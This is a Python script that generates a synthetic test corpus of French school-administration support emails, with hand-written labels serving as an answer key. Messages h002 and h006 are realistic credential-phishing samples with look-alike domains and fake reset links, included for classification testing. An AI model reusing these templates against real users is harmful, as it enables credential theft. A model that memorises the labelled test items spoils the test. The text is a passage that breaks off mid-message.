#!/usr/bin/env python3
"""Build the holdout56 blind test corpus: h001.eml ... h150.eml and labels.jsonl.

Theme: November 2025, académies of Rennes, Orléans-Tours, Aix-Marseille, Nice
and Corse, purchasing / finance side of schools and local authorities, the
weeks after a security incident at the académie (forced password resets,
phishing imitating the support desk and MailInBlack, reset links opened by
security gateways, locked accounts, double-authentication confusion), while
autumn orders, invoices, Chorus Pro, contract documents and subscriptions go on.

Every mail below was written by hand; the code only wraps the text in the
headers and MIME structure of the mail client named for each message.

Standard library only, Python 3.11.  Deterministic: the only randomness
(message ids, relay ids, IP addresses, seconds) comes from one seeded
random.Random.  Run it from anywhere; it writes next to itself and then
checks its own output with assertions.
"""

import base64
import json
import quopri
import re
import random
import uuid
from datetime import datetime, timedelta, timezone
from email import message_from_bytes, policy
from email.charset import QP, Charset
from email.header import Header
from email.utils import format_datetime, formataddr, parseaddr
from pathlib import Path

HERE = Path(__file__).resolve().parent
R = random.Random(560_2025)
CET = timezone(timedelta(hours=1))
UTC = timezone.utc

SUPPORT_ADDR = "support@assistance.example.fr"
SUPPORT = "Assistance <support@assistance.example.fr>"
MX = "mx1.assistance.example.fr"

UAI_LETTERS = "ABCDEFGHJKLMNPRSTUVWXYZ"

REGION_OF_DEPT = {}
for _slug, _depts in {
    "auvergne-rhone-alpes": "01 03 07 15 26 38 42 43 63 69 73 74",
    "bourgogne-franche-comte": "21 25 39 58 70 71 89 90",
    "bretagne": "22 29 35 56",
    "centre-val-de-loire": "18 28 36 37 41 45",
    "grand-est": "08 10 51 52 54 55 57 67 68 88",
    "hauts-de-france": "02 59 60 62 80",
    "ile-de-france": "75 77 78 91 92 93 94 95",
    "normandie": "14 27 50 61 76",
    "nouvelle-aquitaine": "16 17 19 23 24 33 40 47 64 79 86 87",
    "occitanie": "09 11 12 30 31 32 34 46 48 65 66 81 82",
    "pays-de-la-loire": "44 49 53 72 85",
    "provence-alpes-cote-d-azur": "04 05 06 13 83 84",
}.items():
    for _d in _depts.split():
        REGION_OF_DEPT["0" + _d] = _slug
REGION_OF_DEPT.update({"620": "corse", "720": "corse", "971": "guadeloupe",
                       "972": "martinique", "973": "guyane", "974": "la-reunion",
                       "976": "mayotte"})

REGION_OF_DOMAIN = {}
for _slug, _doms in {
    "auvergne-rhone-alpes": "ac-clermont.fr ac-grenoble.fr ac-lyon.fr",
    "bourgogne-franche-comte": "ac-besancon.fr ac-dijon.fr",
    "bretagne": "ac-rennes.fr",
    "centre-val-de-loire": "ac-orleans-tours.fr",
    "corse": "ac-corse.fr",
    "grand-est": "ac-nancy-metz.fr ac-reims.fr ac-strasbourg.fr",
    "hauts-de-france": "ac-amiens.fr ac-lille.fr",
    "ile-de-france": "ac-creteil.fr ac-paris.fr ac-versailles.fr",
    "normandie": "ac-normandie.fr ac-caen.fr ac-rouen.fr",
    "nouvelle-aquitaine": "ac-bordeaux.fr ac-limoges.fr ac-poitiers.fr",
    "occitanie": "ac-montpellier.fr ac-toulouse.fr",
    "pays-de-la-loire": "ac-nantes.fr",
    "provence-alpes-cote-d-azur": "ac-aix-marseille.fr ac-nice.fr",
    "guadeloupe": "ac-guadeloupe.fr",
    "martinique": "ac-martinique.fr",
    "guyane": "ac-guyane.fr",
    "la-reunion": "ac-reunion.fr",
    "mayotte": "ac-mayotte.fr",
}.items():
    for _d in _doms.split():
        REGION_OF_DOMAIN[_d] = _slug

CATEGORIES = {
    "password_reset", "missing_noreply_mail", "mailinblack_spam",
    "head_of_establishment_request", "account_creation",
    "subscription_activation", "order_billing", "contract_documents",
    "transfer_incident", "automated", "other",
}
# Categories whose default action is never an automatic answer.
NEVER_AUTO = {"head_of_establishment_request", "order_billing",
              "contract_documents", "transfer_incident", "automated", "other"}
PLATFORMS = {"esidoc", "espace_acheteur", "ecoledirecte", "ticket_portal",
             "esignature"}
LABEL_KEYS = ["file", "category", "auto_reply_ok", "uai", "region",
              "platform", "hard", "lang", "notes"]


# --------------------------------------------------------------------------
# small deterministic helpers
# --------------------------------------------------------------------------

def hexs(n, upper=False):
    s = "".join(R.choice("0123456789abcdef") for _ in range(n))
    return s.upper() if upper else s


def alnum(n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(R.choice(alphabet) for _ in range(n))


def ip():
    return f"{R.choice(['192.0.2', '198.51.100', '203.0.113'])}.{R.randint(2, 250)}"


def ruuid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def when(day, hh, mm, ss=None):
    return datetime(2025, 11, day, hh, mm, R.randint(0, 59) if ss is None else ss,
                    tzinfo=CET)


def rfcdate(dt, utc=False):
    return format_datetime(dt.astimezone(UTC) if utc else dt)


_QP_UTF8 = Charset("utf-8")
_QP_UTF8.header_encoding = QP


def eh(s, q=False):
    """Encode a header value (RFC 2047) when it is not plain ASCII."""
    if s.isascii():
        return s
    return Header(s, _QP_UTF8 if q else "utf-8").encode()


def ea(name, addr, q=False):
    if not name:
        return addr
    if name.isascii():
        return formataddr((name, addr))
    return f"{eh(name, q)} <{addr}>"


def domain_of(addr):
    return addr.rsplit("@", 1)[-1].lower()


# --------------------------------------------------------------------------
# MIME parts, built by hand so that each client's habits can be imitated
# --------------------------------------------------------------------------

class P:
    """A MIME entity: header lines (without the final blank line) and a body."""

    def __init__(self, headers, body):
        self.headers = list(headers)
        self.body = body if isinstance(body, bytes) else body.encode("utf-8")


def encode_text(text, cte, charset):
    data = text.encode(charset)
    if cte == "quoted-printable":
        return quopri.encodestring(data)
    if cte == "base64":
        return base64.encodebytes(data.replace(b"\n", b"\r\n"))
    if cte == "7bit":
        assert data.isascii(), "7bit part with non-ASCII text"
    return data


def text_part(text, subtype="plain", cte="quoted-printable", charset="utf-8",
              flowed=False, quote_cs=True, extra=()):
    cs = f'"{charset}"' if quote_cs else charset
    ctype = f"Content-Type: text/{subtype}; charset={cs}"
    if flowed:
        ctype += "; format=flowed"
    body = encode_text(text, cte, charset)
    if not body.endswith(b"\n"):
        body += b"\n"
    return P([ctype, f"Content-Transfer-Encoding: {cte}", *extra], body)


def multi(subtype, parts, boundary=None, params="", preamble=None):
    boundary = boundary or f"----=_Part_{R.randint(100000, 999999)}_{R.randint(10**8, 10**9)}.{R.randint(10**12, 10**13)}"
    out = b""
    if preamble:
        out += preamble.encode() + b"\n"
    for p in parts:
        out += (b"\n--" if out else b"--") + boundary.encode() + b"\n"
        out += "\n".join(p.headers).encode() + b"\n\n" + p.body
    out += b"\n--" + boundary.encode() + b"--\n"
    return P([f"Content-Type: multipart/{subtype};{params}\n boundary=\"{boundary}\""], out)


def attachment(filename, ctype, data, inline=False):
    disp = "inline" if inline else "attachment"
    fn = filename if filename.isascii() else None
    if fn is None:  # RFC 2231 for a non-ASCII file name
        from urllib.parse import quote
        q = quote(filename.encode("utf-8"))
        name_params = f"; name*=utf-8''{q}"
        disp_params = f"; filename*=utf-8''{q}"
    else:
        name_params = f'; name="{fn}"'
        disp_params = f'; filename="{fn}"'
    return P([f"Content-Type: {ctype}{name_params}",
              f"Content-Disposition: {disp}{disp_params}",
              "Content-Transfer-Encoding: base64"],
             base64.encodebytes(data))


def fake_pdf(title):
    """A tiny but well-formed-looking PDF whose only text is the title."""
    t = title.encode("latin-1", "replace")
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n"
            b"4 0 obj<</Length " + str(len(t) + 30).encode() + b">>stream\nBT /F1 12 Tf 72 770 Td ("
            + t + b") Tj ET\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def fake_png(seed_text):
    head = b"\x89PNG\r\n\x1a\n"
    return head + seed_text.encode() + bytes(R.randint(0, 255) for _ in range(120))


# --------------------------------------------------------------------------
# HTML renderings of a plain text, in the manner of a few clients
# --------------------------------------------------------------------------

def esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def html_of(text, style):
    lines = text.split("\n")
    if style == "outlook":
        paras = "".join(
            f'<p class="MsoNormal">{esc(l) if l.strip() else "&nbsp;"}<o:p></o:p></p>\n'
            for l in lines)
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
                'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
                'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
                '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
                'p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}\n'
                '--></style>\n</head>\n<body lang="FR" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n'
                f'<div class="WordSection1">\n{paras}</div>\n</body>\n</html>\n')
    if style == "gmail":
        out, quote = [], []
        for l in lines:
            if l.startswith(">"):
                quote.append(esc(l[1:].lstrip()))
                continue
            if quote:
                out.append('<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;'
                           'border-left:1px solid rgb(204,204,204);padding-left:1ex">'
                           + "<br>".join(quote) + "</blockquote>")
                quote = []
            out.append(f"<div>{esc(l) if l.strip() else '<br>'}</div>")
        if quote:
            out.append('<blockquote class="gmail_quote">' + "<br>".join(quote) + "</blockquote>")
        return '<div dir="ltr">' + "".join(out) + "</div>\n"
    if style == "zimbra":
        bogus = '<br data-mce-bogus="1">'
        divs = "\n".join(f"<div>{esc(l) if l.strip() else bogus}</div>" for l in lines)
        return ('<html><body><div style="font-family: arial, helvetica, sans-serif; font-size: 12pt; color: #000000">'
                f"\n{divs}\n</div></body></html>\n")
    if style == "apple":
        body = "".join(f"<div>{esc(l) if l.strip() else '<br>'}</div>" for l in lines)
        return ('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
                f'<body dir="auto">{body}</body></html>\n')
    # plain-ish
    return "<html><head></head><body>" + "<br>\n".join(esc(l) for l in lines) + "</body></html>\n"


# --------------------------------------------------------------------------
# transport headers
# --------------------------------------------------------------------------

def mta_for(addr, client):
    d = domain_of(addr)
    if d == "gmail.com":
        return f"mail-{R.choice(['wr1', 'wm1', 'ej1', 'lf1'])}-f{R.randint(41, 99)}.google.com", "209.85.128." + str(R.randint(10, 250))
    if d in ("orange.fr", "wanadoo.fr"):
        return f"smtp-{R.randint(10, 30)}.smtp.orange.fr", "80.12.242." + str(R.randint(10, 250))
    if d in ("laposte.net",):
        return f"smtp-out-{R.randint(1, 9)}.laposte.net", ip()
    if d.startswith("ac-"):
        return f"smtp{R.randint(1, 6)}.{d}", ip()
    if client in ("outlook", "outlook_en", "android_outlook") and not d.startswith("ac-"):
        return (f"{R.choice(['PA4P264CU001', 'MRZP264CU002', 'PR0P264CU003', 'PAVP264CU004'])}.outbound.protection.outlook.com",
                "52.101." + str(R.randint(1, 250)) + "." + str(R.randint(1, 250)))
    return f"mail.{d}", ip()


def transport(frm_addr, dt, client, auth=None, mta=None, to_addr=SUPPORT_ADDR,
              return_path=None):
    d = domain_of(frm_addr)
    host, hip = mta or mta_for(frm_addr, client)
    rp = frm_addr if return_path is None else return_path
    dkim, spf, dmarc = auth or ("pass", "pass", "pass")
    recv_dt = dt + timedelta(seconds=R.randint(2, 40))
    rdate = format_datetime(recv_dt)
    tzname = "(CET)"
    h = [f"Return-Path: <{rp}>",
         f"Delivered-To: {to_addr}",
         f"Received: from {host} ({host} [{hip}])\n\tby {MX} (Postfix) with ESMTPS id 4{alnum(12)}\n"
         f"\tfor <{to_addr}>; {rdate} {tzname}"]
    dk = ("dkim=none" if dkim == "none" else
          f"dkim={dkim} (2048-bit key) header.d={d}")
    sp = (f"spf={spf} smtp.mailfrom={domain_of(rp)}" if rp
          else f"spf={spf} smtp.helo={host}")
    dm = ("dmarc=none" if dmarc == "none" else
          f"dmarc={dmarc} (p={'quarantine' if dmarc == 'fail' else 'none'} dis=none) header.from={d}")
    h.append(f"Authentication-Results: {MX};\n\t{dk};\n\t{sp};\n\t{dm}")
    return h


# --------------------------------------------------------------------------
# client profiles: identity headers and the default body structure
# --------------------------------------------------------------------------

def client_headers(client, frm_addr, subject, dt):
    d = domain_of(frm_addr)
    if client in ("outlook", "outlook_en", "outlook_html"):
        box = f"{R.choice(['PR1P264MB', 'PAZP264MB', 'MRZP264MB', 'PA4P264MB'])}{R.randint(1000, 9999)}"
        mid = f"<{box}{hexs(24, True)}@{box}.FRAP264.PROD.OUTLOOK.COM>"
        lang = "en-US" if client == "outlook_en" else "fr-FR"
        return mid, [f"Thread-Topic: {eh(subject)}",
                     f"Thread-Index: {base64.b64encode(bytes(R.randint(0, 255) for _ in range(22))).decode()}",
                     f"Accept-Language: {lang}, en-US" if lang == "fr-FR" else "Accept-Language: en-US, fr-FR",
                     f"Content-Language: {lang}",
                     "X-MS-Has-Attach: ",
                     "X-MS-TNEF-Correlator: "], True
    if client == "android_outlook":
        box = f"PAVP264MB{R.randint(1000, 9999)}"
        return (f"<{box}{hexs(20, True)}@{box}.FRAP264.PROD.OUTLOOK.COM>",
                [f"Thread-Topic: {eh(subject)}",
                 "Accept-Language: fr-FR, en-US", "Content-Language: fr-FR",
                 "X-MS-Has-Attach: "], True)
    if client == "gmail":
        return f"<CA{alnum(1, 'BCDEFGHJ')}{alnum(40)}@mail.gmail.com>", [], False
    if client == "thunderbird":
        return (f"<{ruuid()}@{d}>",
                ["User-Agent: Mozilla Thunderbird", "Content-Language: fr"], False)
    if client in ("apple", "iphone"):
        mid = f"<{ruuid().upper()}@{d}>"
        xm = ("X-Mailer: iPhone Mail (22B83)" if client == "iphone"
              else "X-Mailer: Apple Mail (2.3826.700.81)")
        return mid, [xm], False
    if client == "zimbra":
        return (f"<{R.randint(10**8, 10**9)}.{R.randint(10**5, 10**6)}.{int(dt.timestamp() * 1000)}.JavaMail.zimbra@{d}>",
                [f"X-Originating-IP: [10.{R.randint(1, 250)}.{R.randint(1, 250)}.{R.randint(1, 250)}]",
                 "X-Mailer: Zimbra 9.0.0_ZEXTRAS_20240927 (ZimbraWebClient - FF132 (Win)/9.0.0_ZEXTRAS_20240927)",
                 f"Thread-Topic: {eh(subject)}",
                 f"Thread-Index: {alnum(28)}"], False)
    if client == "roundcube":
        return (f"<{hexs(32)}@{d}>",
                ["User-Agent: Roundcube Webmail/1.6.9", f"X-Sender: {frm_addr}"], False)
    if client == "samsung":
        return f"<{hexs(8)}-{hexs(4)}@email.android.com>", [], False
    return f"<{hexs(16)}.{R.randint(1000, 9999)}@{d}>", [], False


def default_body(client, text, html=None, html_only=False, cte=None, charset="utf-8"):
    """Return the root part for a person-written mail from `client`."""
    if html_only:
        return text_part(html, "html", cte or "quoted-printable", charset)
    if client in ("outlook", "outlook_en"):
        h = html or html_of(text, "outlook")
        return multi("alternative", [text_part(text, "plain", cte or "quoted-printable", charset),
                                     text_part(h, "html", cte or "quoted-printable", charset)],
                     boundary=f"_000_{hexs(24, True)}FRAP_")
    if client == "android_outlook":
        h = html or html_of(text, "plain")
        return multi("alternative", [text_part(text, "plain", "base64", charset),
                                     text_part(h, "html", "base64", charset)],
                     boundary=f"_000_{hexs(24, True)}PAVP_")
    if client == "gmail":
        h = html or html_of(text, "gmail")
        return multi("alternative", [text_part(text, "plain", cte or "quoted-printable", "UTF-8"),
                                     text_part(h, "html", cte or "quoted-printable", "UTF-8")],
                     boundary="0000000000" + hexs(18))
    if client == "zimbra":
        h = html or html_of(text, "zimbra")
        return multi("alternative", [text_part(text, "plain", cte or "quoted-printable", charset, quote_cs=False),
                                     text_part(h, "html", cte or "quoted-printable", charset, quote_cs=False)],
                     boundary=f"=_{ruuid()}")
    if client in ("apple", "iphone"):
        if html:
            return multi("alternative", [text_part(text, "plain", cte or "quoted-printable", charset, quote_cs=False),
                                         text_part(html, "html", cte or "quoted-printable", charset, quote_cs=False)],
                         boundary=f"Apple-Mail-{ruuid().upper()}")
        return text_part(text, "plain", cte or "quoted-printable", charset, quote_cs=False)
    if client in ("thunderbird", "roundcube"):
        return text_part(text, "plain", cte or "8bit", charset.upper() if charset == "utf-8" else charset,
                         flowed=True, quote_cs=False)
    if client == "samsung":
        h = html or html_of(text, "plain")
        return multi("alternative", [text_part(text, "plain", "base64", charset),
                                     text_part(h, "html", "base64", charset)],
                     boundary=f"--_com.samsung.android.email_{R.randint(10**14, 10**15)}")
    if html:
        return multi("alternative", [text_part(text, "plain", cte or "quoted-printable", charset),
                                     text_part(html, "html", cte or "quoted-printable", charset)])
    return text_part(text, "plain", cte or "8bit", charset)


# --------------------------------------------------------------------------
# the corpus
# --------------------------------------------------------------------------

MAILS = {}    # number -> bytes
LABELS = {}   # number -> dict


def label(n, category, auto_reply_ok, uai, region, platform, hard, lang, notes):
    assert n not in LABELS, n
    LABELS[n] = dict(zip(LABEL_KEYS, [f"h{n:03d}.eml", category, auto_reply_ok, uai,
                                      region, platform, hard, lang, notes]))


def mail(n, *, frm, subject, dt, text=None, client="outlook", html=None,
         html_only=False, cte=None, charset="utf-8", to=SUPPORT, cc=None,
         reply_to=None, in_reply_to=None, references=None, auth=None, mta=None,
         extra=(), attach=(), root=None, return_path=None, msgid=None,
         utc=None, q=False, delivered_to=SUPPORT_ADDR, mime_version="1.0"):
    name, addr = frm
    mid, ch, utc_default = client_headers(client, addr, subject, dt)
    mid = msgid or mid
    if root is None:
        root = default_body(client, text, html, html_only, cte, charset)
        if attach:
            root = multi("mixed", [root, *attach],
                         boundary=f"_004_{hexs(24, True)}FRAP_" if client.startswith("outlook")
                         else f"------------{alnum(24)}")
    h = transport(addr, dt, client, auth, mta, delivered_to, return_path)
    h.append(f"From: {ea(name, addr, q)}")
    h.append(f"To: {to}")
    if cc:
        h.append(f"Cc: {cc}")
    if reply_to:
        h.append(f"Reply-To: {reply_to}")
    h.append(f"Subject: {eh(subject, q)}")
    h.append(f"Date: {rfcdate(dt, utc_default if utc is None else utc)}")
    h.append(f"Message-ID: {mid}")
    if in_reply_to:
        h.append(f"In-Reply-To: {in_reply_to}")
        h.append(f"References: {references or in_reply_to}")
    h.extend(ch)
    h.extend(extra)
    h.append(f"MIME-Version: {mime_version}")
    data = ("\n".join(h) + "\n" + "\n".join(root.headers) + "\n\n").encode("utf-8") + root.body
    assert n not in MAILS, n
    MAILS[n] = data


def raw(n, headers, root):
    """A machine-made mail: the caller gives every header itself."""
    data = ("\n".join(headers) + "\n" + "\n".join(root.headers) + "\n\n").encode("utf-8") + root.body
    assert n not in MAILS, n
    MAILS[n] = data


def T(s):
    """A hand-written body: drop the leading newline of the literal."""
    return s.lstrip("\n")


def our_ref():
    return f"<SUP-{R.randint(117000, 119999):06d}.{R.randint(10**9, 10**10)}.{hexs(6)}@assistance.example.fr>"



# ==========================================================================
# h001 - h025
# ==========================================================================

mail(1, frm=("Gwenaëlle Kerbrat", "gwenaelle.kerbrat@ac-rennes.fr"), client="zimbra",
     subject="Mot de passe e-sidoc après la réinitialisation générale", dt=when(3, 8, 47),
     text=T("""
Bonjour,

Suite à l'incident de sécurité, le rectorat a réinitialisé tous nos mots de passe pendant les vacances et j'ai dû en créer de nouveaux ce matin pour la messagerie et l'ENT. Résultat : je ne sais plus du tout lequel j'utilisais pour l'administration de notre portail e-sidoc. J'ai essayé l'ancien et le nouveau, rien ne passe.

Pouvez-vous m'indiquer comment retrouver l'accès ? Je précise que je suis la seule à gérer le portail au CDI.

Merci d'avance,

Gwenaëlle Kerbrat
Professeure documentaliste
Collège Jules Ferry - Quimperlé
UAI : 0291534K
"""))
label(1, "password_reset", True, "0291534K", "bretagne", "esidoc", False, "fr",
      "Forgotten e-sidoc admin password after the académie's forced reset of its own passwords; UAI in the signature. Standard reset path.")

mail(2, frm=("Service Assistance", "no-reply@assistance-exemple-fr.com"), client="other",
     subject="[Action requise] Réinitialisation obligatoire de votre mot de passe - incident de sécurité",
     dt=when(3, 5, 12), to="undisclosed-recipients:;", auth=("none", "fail", "none"),
     return_path="bounce-7731@srv-notif-mailer.com",
     mta=("srv-notif-mailer.com", "203.0.113.77"),
     html_only=True, cte="quoted-printable",
     html=T("""
<html><head><meta charset="utf-8"></head>
<body style="font-family:Arial,sans-serif;background:#f4f4f4">
<table width="600" align="center" style="background:#ffffff;border:1px solid #ddd">
<tr><td style="background:#00457c;color:#fff;padding:14px;font-size:18px"><b>Assistance - Portail Education</b></td></tr>
<tr><td style="padding:20px;font-size:14px">
<p>Bonjour,</p>
<p>Suite &agrave; l'incident de s&eacute;curit&eacute; ayant touch&eacute; plusieurs acad&eacute;mies, <b>tous les mots de passe doivent &ecirc;tre r&eacute;initialis&eacute;s avant le 05/11/2025</b>.</p>
<p>Sans action de votre part, votre acc&egrave;s aux services (e-sidoc, Espace Acheteur, messagerie) sera <b>d&eacute;sactiv&eacute;</b>.</p>
<p style="text-align:center"><a href="https://assistance-exemple-fr.com/securite/reinit?id=84f1c2" style="background:#e30613;color:#fff;padding:10px 24px;text-decoration:none">R&Eacute;INITIALISER MON MOT DE PASSE</a></p>
<p>Munissez-vous de votre identifiant et de votre mot de passe actuel.</p>
<p>Cordialement,<br>Le service Assistance</p>
</td></tr></table>
</body></html>
"""))
label(2, "other", False, None, None, None, True, "fr",
      "Phishing received by the desk: imitates a forced password reset 'after the incident', HTML only, look-alike domain assistance-exemple-fr.com, SPF fail. Mentions passwords but nobody asks for anything: other.")

mail(3, frm=("CHEVALLIER Sandrine", "sandrine.chevallier@ac-orleans-tours.fr"), client="outlook",
     subject="Facture rejetée sur Chorus Pro - commande fournitures octobre", dt=when(4, 10, 21),
     text=T("""
Bonjour,

Notre commande de fournitures de bureau passée le 9 octobre via l'Espace Acheteur a bien été livrée, mais la facture déposée sur Chorus Pro vient d'être rejetée par notre agence comptable : le code service indiqué (« SERVICE-ACHATS ») n'existe pas chez nous. Pour le lycée il n'y a pas de code service, seulement le SIRET et le numéro d'engagement juridique, qui figurait pourtant bien sur le bon de commande (EJ 2025-0347).

Pourriez-vous faire redéposer la facture sans code service ? Le fournisseur me dit que c'est vous qui générez le document.

Bien cordialement,

Sandrine Chevallier
Adjointe gestionnaire
Lycée Charles-Péguy - Orléans
UAI 0452775X
Tél. 02 38 51 12 40
"""))
label(3, "order_billing", False, "0452775X", "centre-val-de-loire", "espace_acheteur", False, "fr",
      "Invoice rejected on Chorus Pro because of a wrong code service; asks for it to be re-issued.")

mail(4, frm=("Karima Amrani", "karima.amrani@ac-aix-marseille.fr"), client="zimbra",
     subject="Absence : [#SUP-118233] Devis renouvellement abonnement", dt=when(3, 11, 2),
     in_reply_to=our_ref(),
     extra=("Auto-Submitted: auto-replied (zimbra; vacation)",),
     text=T("""
Bonjour,

Je suis absente du lundi 3 au mercredi 12 novembre inclus.
Pour toute question urgente concernant les commandes, les devis ou la facturation, merci de contacter le secrétariat d'intendance au 04 91 62 18 30.

Cordialement,
Karima Amrani
"""))
label(4, "automated", False, None, "provence-alpes-cote-d-azur", None, False, "fr",
      "Zimbra vacation reply to one of the desk's messages (Auto-Submitted: auto-replied (zimbra; vacation)). Region from the ac-aix-marseille.fr sender.")

mail(5, frm=("FABRE Julien", "julien.fabre@ac-nice.fr"), client="outlook",
     subject="Mail de validation bloqué par MailInBlack", dt=when(4, 14, 5),
     text=T("""
Bonjour,

Je suis adjoint gestionnaire au collège Henri-Bosco à La Seyne-sur-Mer. Depuis la rentrée de novembre, l'académie a généralisé MailInBlack sur les boîtes des établissements.

J'ai demandé ce matin la validation de mon compte Espace Acheteur et je vois dans mon espace MailInBlack un message de votre adresse no-reply « en attente d'authentification ». Il n'arrive pas dans ma boîte.

Que dois-je faire pour le récupérer, et faut-il autoriser votre adresse une fois pour toutes ?

Cordialement

Julien Fabre
Adjoint gestionnaire
Collège Henri-Bosco - La Seyne-sur-Mer
RNE 0832100G
"""))
label(5, "mailinblack_spam", True, "0832100G", "provence-alpes-cote-d-azur", "espace_acheteur", False, "fr",
      "Espace Acheteur validation mail held in MailInBlack, product named; asks how to allow the sender. UAI given as 'RNE'.")

mail(6, frm=("LE GOFF Yann", "yann.le-goff@ac-rennes.fr"), client="outlook",
     subject="TR: Dernier avis : votre compte Espace Acheteur sera suspendu", dt=when(5, 8, 33),
     text=T("""
Bonjour,

Est-ce bien vous qui envoyez ce message ? Depuis l'incident à l'académie, notre informaticien nous répète de ne jamais cliquer sur un lien reçu par mail, donc je n'ai rien fait. L'adresse de l'expéditeur ne me dit rien.

Merci de me confirmer, je n'ai pas envie de bloquer nos commandes de fin d'année.

Yann Le Goff
Gestionnaire
Lycée Bréquigny - Rennes
UAI 0351046X

________________________________
De : Espace Acheteur - Service Client <service-client@espace-acheteur-verification.com>
Envoyé : mercredi 5 novembre 2025 07:12
À : LE GOFF Yann <yann.le-goff@ac-rennes.fr>
Objet : Dernier avis : votre compte Espace Acheteur sera suspendu

Cher utilisateur,

Suite à la mise à jour de sécurité de notre plateforme, votre compte doit être revalidé avant le 06/11/2025. Sans action de votre part, l'accès à vos commandes et factures sera suspendu.

Revalider mon compte : https://espace-acheteur-verification.com/login?u=yann.le-goff

L'équipe Espace Acheteur
"""))
label(6, "other", False, "0351046X", "bretagne", "espace_acheteur", True, "fr",
      "Forwards a phishing mail imitating the Espace Acheteur and asks 'est-ce bien vous ?': a verification question for a person, no category fits. Platform: the question concerns his Espace Acheteur account.")

mail(7, frm=("Marie-Ange Casanova", "marie-ange.casanova@ac-corse.fr"), client="iphone",
     subject="compte bloqué", dt=when(4, 7, 52),
     text=T("""
Bonjour
Mon compte e-sidoc est bloqué après trop de tentatives (j'ai essayé avec le nouveau mdp de l'académie, erreur de ma part…). Pouvez vous le débloquer ou m'envoyer un lien ? Collège de Porto-Vecchio, UAI 6201113R.
Merci
MA Casanova

Envoyé de mon iPhone
"""))
label(7, "password_reset", True, "6201113R", "corse", "esidoc", False, "fr",
      "Account locked after too many attempts; short iPhone mail; Corse-du-Sud UAI prefix 620.")

mail(8, frm=("Thomas Berthier", "thomas.berthier@ac-orleans-tours.fr"), client="thunderbird",
     subject="Abonnement Europresse pas encore visible", dt=when(5, 9, 10),
     text=T("""
Bonjour,

Nous avons commandé lundi après-midi (3 novembre) l'abonnement Europresse pour le CDI. Il n'apparaît toujours pas dans la liste des ressources de notre portail e-sidoc, alors que la commande est marquée « validée » côté gestion.

Est-ce normal ou faut-il faire une manipulation de notre côté ?

Bonne journée,

-- 
Thomas Berthier
Professeur documentaliste
Lycée Jean-Monnet, Joué-lès-Tours
0370142D
"""))
label(8, "subscription_activation", True, "0370142D", "centre-val-de-loire", "esidoc", False, "fr",
      "Europresse ordered two days ago, not visible yet: inside the 72-hour activation window.")

mail(9, frm=("Hélène Morvan", "h.morvan@cc-aulne-et-monts.fr"), client="outlook",
     subject="DCE groupement fournitures scolaires 2026 introuvable", dt=when(5, 15, 40),
     text=T("""
Bonjour,

Notre communauté de communes est membre du groupement de commandes pour les fournitures scolaires des écoles (convention signée en septembre). Le DCE de la consultation 2026 devait être consultable dans l'Espace Acheteur depuis le 3 novembre, mais dans « Mes marchés » je ne vois que les marchés 2024 et 2025. Aucun document pour 2026, ni le règlement de consultation ni le CCTP.

Les autres membres du groupement voient-ils la même chose ? Nous devons valider nos quantités avant le 20.

Cordialement,

Hélène Morvan
Service commande publique
Communauté de communes Aulne et Monts
"""))
label(9, "contract_documents", False, None, None, "espace_acheteur", False, "fr",
      "Consultation documents (DCE: règlement, CCTP) of a purchasing group not visible in 'Mes marchés'. Local authority, no UAI, non-academic domain: no region.")

raw(10, [
    *transport("ne-pas-repondre@chorus-pro.gouv.fr", when(5, 2, 14), "other",
               mta=("smtp-out.chorus-pro.gouv.fr", "198.51.100.61")),
    "From: Chorus Pro <ne-pas-repondre@chorus-pro.gouv.fr>",
    "To: support@assistance.example.fr",
    "Subject: [Chorus Pro] Changement de statut de la facture FAC-2025-11-00412",
    f"Date: {rfcdate(when(5, 2, 14, 3))}",
    f"Message-ID: <{hexs(20)}@chorus-pro.gouv.fr>",
    "Auto-Submitted: auto-generated",
    "X-Auto-Response-Suppress: All",
    "MIME-Version: 1.0"],
    text_part(T("""
Bonjour,

Le statut de la facture suivante a été modifié.

Numéro de facture : FAC-2025-11-00412
Fournisseur : ASSISTANCE PORTAILS EDUCATION
Destinataire : LYCEE PROFESSIONNEL DU BATIMENT (SIRET 193 502 817 00018)
Montant TTC : 1 284,00 EUR
Nouveau statut : REJETEE
Motif : Code service obligatoire non renseigné

Vous pouvez consulter le détail de la facture dans votre espace Chorus Pro.

Ce courriel est envoyé automatiquement, merci de ne pas y répondre.
"""), cte="quoted-printable"))
label(10, "automated", False, None, None, None, True, "fr",
      "Chorus Pro status notification (Auto-Submitted: auto-generated) that reached the support address: about an invoice and Chorus, but a robot's message, never answered.")

mail(11, frm=("Proviseure - Lycée du Blavet", "ce.0562281A@ac-rennes.fr"), client="zimbra",
     subject="Demande de réinitialisation - compte administrateur e-sidoc - 0562281A", dt=when(5, 16, 55),
     text=T("""
Madame, Monsieur,

À la suite de l'incident de sécurité survenu dans l'académie, et par précaution, je vous demande de bien vouloir réinitialiser le mot de passe du compte administrateur du portail e-sidoc du lycée du Blavet (UAI 0562281A) et d'en rattacher l'adresse de contact à la boîte fonctionnelle du CDI : cdi.lycee-blavet@ac-rennes.fr.

L'ancienne adresse de contact était celle de M. Jégou, parti à la retraite en juillet, dont la messagerie a été désactivée.

Je vous prie d'agréer, Madame, Monsieur, l'expression de mes salutations distinguées.

Catherine Le Bihan
Proviseure
Lycée du Blavet - Pontivy
